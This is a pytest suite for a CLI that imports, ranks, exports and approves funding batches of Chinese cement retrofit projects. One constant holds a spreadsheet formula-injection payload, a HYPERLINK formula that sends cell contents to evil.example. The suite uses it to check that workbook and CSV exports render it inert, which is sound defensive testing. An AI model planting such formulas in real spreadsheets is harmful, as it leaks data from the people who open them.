"""From the announced list to the workbook: ``reserve lists import``, ``rank`` and ``export`` on two accepted projects."""

import csv
import hashlib
import io
import shutil
import sqlite3
from contextlib import closing
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from reserve.accounts import open_local_session
from reserve.rules.ranking.trials.scenario import Changes
from reserve.services import run_scenario
from reserve.store import Store, make_engine
from tests.cli.conftest import environment_of
from tests.cli.running import Reserve
from tests.reserve.exchange.archives import cells, part, sheet_parts
from tests.support.office import Office

pytestmark = pytest.mark.xdist_group("funding")

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"熟料线节能改造")'
OTHER = "2401-330522-07-02-654321"
OPENING = ("--programme", "zhejiang_cement_special_fund", "--budget", "300", "--basis", "演示〔2024〕9号")
LIST = f"序号,项目代码,企业名称,项目名称\n1,{OTHER},,\n2,9999-330522-07-02-000000,虚构企业,不在库中的项目\n"


@pytest.fixture(scope="module")
def accepted(migrated: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two projects in the provincial library; one bears a formula as its name."""
    file = tmp_path_factory.mktemp("accepted") / "reserve.db"
    with closing(sqlite3.connect(migrated)) as source, closing(sqlite3.connect(file)) as target:
        source.backup(target)
    office = Office(Store(make_engine(f"sqlite:///{file}")))
    chain = office.chain()
    office.in_state(chain, "province", {"project_name": (ATTACK, None)})
    office.in_state(chain, "province", {"project_code": (OTHER, None), "line_name": ("2号熟料线", None), "project_name": ("二号线", None)})
    office.desk.store.dispose()
    return file


@pytest.fixture
def library(accepted: Path, tmp_path: Path) -> Reserve:
    """A command line over a copy of it."""
    shutil.copy(accepted, tmp_path / "reserve.db")
    return Reserve(environment_of(tmp_path) | {"RESERVE_USER": "zj.ranker"})


def opened(library: Reserve) -> str:
    return str(library.read_json("rank", *OPENING)["code"])


def test_batch_is_opened_ranked_and_shown_with_its_line(library):
    result = library.run("rank", *OPENING)
    assert result.exit_code == 0, result.output
    assert "已开设批次 3300-2024-B01" in result.stderr
    assert "二号线" in result.stdout
    assert "预算 300.00 万元" in result.stdout


def test_a_list_is_opened_by_its_places_and_a_budget_for_it_is_refused(library):
    asked = ("rank", "--programme", "zhejiang_key_retrofit_plan", "--basis", "演示〔2024〕10号")
    assert "不安排资金，却填写了预算 300" in library.run(*asked, "--budget", "300").stderr
    assert "名额为 —；请填写 1 至" in library.run(*asked).stderr
    result = library.run(*asked, "--places", "1")
    assert result.exit_code == 0, result.output
    assert "共 1 个名额，不安排资金" in result.stdout
    batch = library.read_json("batch", "list")[0]
    assert (batch["kind"], batch["places"], batch["budget_fen"]) == ("list", 1, 0)


def test_ranking_again_gives_the_same_digest_and_showing_ranks_nothing(library):
    code = opened(library)
    digests = [library.read_json("rank", code)["runs"][-1]["result_digest"] for _ in range(2)]
    assert digests[0] == digests[1]
    before = library.read_json("audit", "verify")["events"]
    shown = library.read_json("rank", code, "--show")
    assert (len(shown["runs"]), shown["runs"][-1]["result_digest"]) == (3, digests[0])
    assert library.read_json("audit", "verify")["events"] == before + 2, "only the sign-in and sign-out of the operator's session"


def test_offers_stay_within_the_budget_to_the_fen(library):
    view = library.read_json("rank", *OPENING)
    assert sum(row["offer_fen"] for row in view["rows"]) == view["spent_fen"] <= view["budget_fen"] == 300_000_000


def test_listed_project_becomes_a_member_once_and_the_unknown_one_is_not_matched(library, tmp_path):
    file = tmp_path / "list.csv"
    file.write_text(LIST, encoding="utf-8")
    arguments = ("lists", "import", str(file), "--kind", "provincial_key_plan", "--document", "浙演示〔2024〕1号", "--date", "2024-05-20")
    first, second = library.read_json(*arguments), library.read_json(*arguments)
    assert (first["added"], first["already"], second["added"], second["already"]) == (1, 0, 0, 1)
    assert [row["project_code"] for row in first["unmatched"]] == ["9999-330522-07-02-000000"]
    shown = library.run(*arguments)
    assert "不在库中的项目" in shown.stderr, "rows that name no project are named"
    tiers = {row["name"]: row["tier"] for row in library.read_json("rank", *OPENING)["rows"]}
    assert tiers["二号线"] < tiers[ATTACK], "what the list names goes first"


def test_list_from_the_future_and_of_unknown_kind_are_refused_with_2(library, tmp_path):
    file = tmp_path / "list.csv"
    file.write_text(LIST, encoding="utf-8")
    future = library.run(
        "lists", "import", str(file), "--kind", "provincial_key_plan", "--document", "浙演示〔2024〕1号", "--date", "2030-01-01"
    )
    assert (future.exit_code, "2030-01-01" in future.stderr) == (2, True)
    kind = library.run("lists", "import", str(file), "--kind", "my_favourites", "--document", "浙演示〔2024〕1号", "--date", "2024-05-20")
    assert (kind.exit_code, "my_favourites" in kind.stderr) == (2, True)


def test_exported_workbook_proves_itself_and_replaces_nothing_unasked(library, tmp_path):
    code, file = opened(library), tmp_path / "list.xlsx"
    written = library.run("export", code, "-o", str(file))
    assert written.exit_code == 0
    assert f"{file.stat().st_size:,}" in written.stderr
    digest = library.read_json("rank", code, "--show")["runs"][-1]["result_digest"]
    values = {str(value) for sheet in range(5) for line in cells(file.read_bytes(), sheet) for value in line}
    assert digest in values
    command = next(value for value in values if "--head " in value)
    head = command.split("--head ")[1][:64]
    assert "核对一致" in library.fine("audit", "verify", "--head", head)
    before = hashlib.sha256(file.read_bytes()).digest()
    again = library.run("export", code, "-o", str(file))
    assert (again.exit_code, "--force" in again.stderr) == (3, True)
    assert hashlib.sha256(file.read_bytes()).digest() == before
    assert library.run("export", code, "-o", str(file), "--force").exit_code == 0
    assert not list(tmp_path.glob(".*.part"))


def test_formula_in_the_name_of_an_accepted_project_is_text_in_workbook_and_csv(library, tmp_path):
    code, file = opened(library), tmp_path / "list.xlsx"
    library.fine("export", code, "-o", str(file))
    content = file.read_bytes()
    assert all("<f" not in xml and "<hyperlink" not in xml for xml in sheet_parts(content))
    assert ATTACK in [value for line in cells(content) for value in line]
    assert "HYPERLINK" in part(content, "xl/sharedStrings.xml")
    printed = list(csv.reader(io.StringIO(library.fine("rank", code, "--show", "--csv").lstrip("\ufeff"))))
    assert "'" + ATTACK in [cell for line in printed for cell in line]


def test_clerk_neither_ranks_nor_exports_and_an_unknown_batch_ends_with_4(library, tmp_path):
    code = opened(library)
    for command in (("rank", code), ("export", code, "-o", str(tmp_path / "x.xlsx"))):
        result = library.run(*command, "--as", "330522.clerk")
        assert result.exit_code == 3
        assert "县级经办" in result.stderr
    assert library.run("rank", "3300-2024-B99").exit_code == 4
    assert not (tmp_path / "x.xlsx").exists()


def test_the_report_of_a_check_is_written_verified_and_a_changed_one_found_out(library, tmp_path):
    code, out = "3305-2024-00001", tmp_path / "out.json"
    assert library.run("check", code, "--report", str(out)).exit_code == 0
    assert library.run("check", code, "--report", str(tmp_path / "out.html"), "--language", "en", "--version", "1").exit_code == 0
    assert "Report of the formal check" in (tmp_path / "out.html").read_text(encoding="utf-8")
    assert library.run("check", code, "--report", str(out)).exit_code == 3
    assert library.run("check", code, "--report", str(tmp_path / "out.exe")).exit_code == 2
    whole = library.run("check", "--verify", str(out))
    assert (whole.exit_code, "与库中记录一致" in whole.stdout) == (0, True)
    out.write_text(out.read_text(encoding="utf-8").replace("长兴示例水泥有限公司", "长兴示例水泥公司"), encoding="utf-8")
    changed = library.run("check", "--verify", str(out))
    assert (changed.exit_code, "“digest”" in changed.stderr) == (1, True)
    assert library.run("check", code, "--verify", str(out)).exit_code == 2


def test_the_verdicts_of_a_batch_are_written_as_an_archive_and_verified(library, tmp_path):
    batch, out = opened(library), tmp_path / "verdicts.zip"
    assert library.run("export", batch, "--verdicts", "--output", str(out)).exit_code == 0
    whole = library.run("check", "--verify", str(out))
    assert (whole.exit_code, f"批次 {batch}，2 个项目" in whole.stdout) == (0, True)
    assert library.run("export", batch, "--verdicts", "--output", str(tmp_path / "b.zip"), RESERVE_USER="330522.clerk").exit_code == 3


def test_a_frozen_batch_leaves_as_a_folder_that_proves_itself_and_can_be_taken_back(library: Reserve, tmp_path: Path) -> None:
    code, folder = opened(library), tmp_path / "frozen"
    frozen = library.fine("batch", "freeze", code, "--out", str(folder))
    digest = hashlib.sha256((folder / "manifest.json").read_bytes()).hexdigest()
    assert digest in frozen
    assert library.fine("batch", "verify", str(folder), "--digest", digest).startswith("冻结批次完好：2 个项目")
    refused = library.run("batch", "freeze", code, "--out", str(folder))
    assert (refused.exit_code, "--force" in refused.stderr) == (2, True)
    library.fine("batch", "freeze", code, "--out", str(folder), "--force")
    assert hashlib.sha256((folder / "manifest.json").read_bytes()).hexdigest() == digest
    table = pl.read_parquet(folder / "rows.parquet")
    assert table["project_code"].to_list() == [row["project_code"] for row in library.read_json("rank", code, "--show")["rows"]]
    assert library.run("rank", code).exit_code == 3
    assert "已排序" in library.fine("batch", "unfreeze", code, "--reason", "名单有误")


def test_what_a_project_could_receive_is_reckoned_for_its_county_and_nobody_elses(library):
    with closing(sqlite3.connect(Path(library.environment["RESERVE_DATABASE_URL"].removeprefix("sqlite:///")))) as line:
        code = line.execute("SELECT code FROM project ORDER BY code").fetchone()[0]
    shown = library.run("entitlement", code, "--verified", "700")
    assert shown.exit_code == 0, shown.output
    assert "天津市节能专项资金补助" in shown.stdout
    assert "本地可得资金的上限" in shown.stdout
    assert "待核" in shown.stderr
    found = library.read_json("entitlement", code, "--received", "100")
    assert {one["programme"] for one in found["formulas"]} >= {"tianjin_saving_support", "shanghai_saving_support"}
    for one in found["formulas"]:
        assert one["steps"][0]["amount_fen"] >= one["entitled_fen"] >= one["payable_fen"]
    assert library.run("entitlement", "3305-2024-09999").exit_code == 4
    assert library.run("entitlement", code, "--as-of", "gestern").exit_code == 2
    assert library.run("entitlement", code, "--received=-5").exit_code == 2


def test_robustness_and_the_price_of_policy_are_printed_and_written_for_programs(library):
    batch = opened(library)
    told = library.run("batch", "robustness", batch, "--draws", "200", "--all")
    assert told.exit_code == 0, told.output
    assert "二号线" in told.stdout
    assert "入围 1 个" in told.stdout
    assert "每种意见抽取 200 次" in told.stderr
    study = library.read_json("batch", "robustness", batch, "--draws", "200")
    assert (study["draws"], len(study["codes"]), set(study["opinions"])) == (200, 2, {"near", "order", "any"})
    price = library.read_json("batch", "price", batch)["price"]
    assert {rule["kind"] for rule in price["rules"]} >= {"weight", "floor", "tier", "cap", "line"}
    shown = library.run("batch", "price", batch)
    assert "同样门槛和上限下的最优安排" in shown.stdout
    refused = library.run("batch", "robustness", batch, "--draws", "5")
    assert refused.exit_code == 2
    assert "100000" in refused.stderr


def test_a_scenario_is_printed_recorded_and_the_same_as_from_python(library: Reserve) -> None:
    batch = opened(library)
    options = ("--weight", "energy_saved=40.5", "--budget", "100", "--floor", "total=45", "--cap", "group_share=50")
    told = library.read_json("batch", "scenario", batch, *options, "--title", "试算")
    assert told["changes"] == {
        "budget_fen": 100_000_000, "caps": {"group_share": "0.5"}, "floors": {"total": "45"}, "weights": {"energy_saved": "40.5"},
    }  # fmt: skip
    desk = Office(Store(make_engine(library.environment["RESERVE_DATABASE_URL"]))).desk
    changes = Changes({"energy_saved": Decimal("40.5")}, {"group_share": Decimal("0.5")}, {"total": Decimal(45)}, 100_000_000)
    same = run_scenario(desk, open_local_session(desk, "zj.ranker", "tests").session_id, batch, changes)
    desk.store.dispose()
    assert (same.record.result_digest, same.record.number) == (told["result_digest"], told["scenario"] + 1)
    assert "energy_saved=40.5" in library.fine("batch", "scenarios", batch)
    for wrong in (("--weight", "energy_saved"), ("--weight", "energy_saved=200"), ("--line", "lot"), ("--cap", "nothing=1")):
        assert library.run("batch", "scenario", batch, *wrong).exit_code == 2, wrong


def test_a_batch_is_approved_publicised_objected_to_and_shown_with_what_is_next(library, tmp_path):
    office = Office(Store(make_engine(library.environment["RESERVE_DATABASE_URL"])))
    office.person("zj.signer", "ZJ", "province_signer")
    office.desk.store.dispose()
    code = opened(library)
    library.fine("batch", "freeze", code, "--out", str(tmp_path / "frozen"))
    meeting = (
        "--run",
        "1",
        "--meeting",
        "会纪〔2024〕3号",
        "--day",
        "2024-09-02",
        "--present",
        "王处长、李科长",
        "--decision",
        "同意第1次排序结果并公示",
    )
    assert library.run("batch", "approve", code, *meeting).exit_code == 3, "the runner never signs"
    assert "已签批" in library.fine("batch", "approve", code, *meeting, RESERVE_USER="zj.signer")
    notice = ("--channel", "门户网站", "--objections-to", "0571-00000000", "--from", "2024-09-02", "--to")
    short = library.run("batch", "publicise", code, *notice, "2024-09-05")
    assert (short.exit_code, "2024-09-06" in short.stderr) == (2, True), (
        "four working days are too few, and the day that is enough is named"
    )
    assert "公示中" in library.fine("batch", "publicise", code, *notice, "2024-09-06")
    objection = ("--name", "李四", "--contact", "13800000000", "--received", "2024-09-02", "--text", "对整个名单的排序有异议")
    assert "第 1 号" in library.fine("batch", "object", code, *objection)
    shown = library.fine("batch", "proceedings", code)
    assert "13800000000" not in shown + str(library.read_json("batch", "proceedings", code))
    assert "第 1 号异议（2024-09-02 收到）未答复" in shown
    assert "公示到 2024-09-06 止" in shown
    assert "13800000000" in library.fine("batch", "objector", code, "1")
    assert library.run("batch", "close", code).exit_code == 3
    assert "已答复" in library.fine(
        "batch", "answer", code, "1", "--effect", "none", "--text", "经核实，排序依据充分", RESERVE_USER="zj.signer"
    )


def test_a_trial_by_another_method_stands_beside_the_official_list_and_is_not_stored(library):
    code = opened(library)
    shown = library.run("rank", code, "--method", "cost_per_tce", "--allocator", "optimise", "--set", "at_most=90000")
    assert shown.exit_code == 0, shown.output
    assert "二号线" in shown.stdout
    assert "元/(tce/年)" in shown.stdout
    assert "试算结果不作为正式名单" in shown.stderr
    assert "资金按最优组合安排" in shown.stderr
    read = library.read_json("rank", code, "--method", "cost_per_tce")
    assert (read["official"], len(read["rows"]), read["unit"]) == (False, 2, "CNY/(tce/yr)")
    assert len(library.read_json("rank", code, "--show")["runs"]) == 1
    for wrong, said in (
        (("--set", "at_most=5"), "--method"),
        (("--method", "cost_per_tce", "--set", "at_most"), "名称=数值"),
        (("--method", "luck"), "cost_per_tce"),
    ):
        refused = library.run("rank", code, *wrong)
        assert refused.exit_code != 0
        assert said in refused.stderr


def test_a_departure_is_proposed_by_one_and_signed_by_another(library: Reserve) -> None:
    batch = opened(library)
    office = Office(Store(make_engine(library.environment["RESERVE_DATABASE_URL"])))
    office.person("zj.signer", "ZJ", "province_signer")
    office.desk.store.dispose()
    first, second = library.read_json("rank", batch, "--show")["rows"]
    told = library.fine("batch", "depart", batch, second["project_code"], "--offer", "40", "--reason", "两条线须同时停产改造")
    assert "40.00" in told
    assert library.run("batch", "departure", batch, "1", "--sign").exit_code == 3
    assert library.run("batch", "departure", batch, "1").exit_code == 2
    signed = library.read_json("batch", "departure", batch, "1", "--sign", "--as", "zj.signer")
    assert (signed["state"], signed["offer_fen"], signed["list_offer_fen"]) == ("signed", 40_000_000, 0)
    assert [one["number"] for one in library.read_json("batch", "departures", batch)] == [1]
    wrong = library.run("batch", "depart", batch, first["project_code"], "--offer", "9999", "--reason", "不可能的金额")
    assert (wrong.exit_code, "9,999.00" in wrong.output + wrong.stderr) == (2, True)
